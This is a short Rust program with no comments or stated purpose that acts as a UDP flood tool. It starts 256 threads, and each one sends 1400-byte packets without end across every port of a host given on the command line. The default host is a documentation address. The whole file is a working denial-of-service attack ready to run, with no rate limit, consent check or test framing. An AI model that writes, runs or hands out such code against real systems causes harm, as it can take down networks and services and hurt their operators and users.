use std::net::UdpSocket;
use std::thread;

fn main() {
    let dst = std::env::args().nth(1).unwrap_or_else(|| "198.51.100.222:0".into());
    let host = dst.split(':').next().unwrap().to_string();
    let workers: Vec<_> = (0..256u32)
        .map(|n| {
            let host = host.clone();
            thread::spawn(move || {
                let s = UdpSocket::bind("0.0.0.0:0").unwrap();
                let payload = [0xA5u8; 1400];
                let mut port = 1 + (n * 251) as u16;
                loop {
                    let _ = s.send_to(&payload, (host.as_str(), port));
                    port = port.wrapping_add(1).max(1);
                }
            })
        })
        .collect();
    for w in workers {
        let _ = w.join();
    }
}
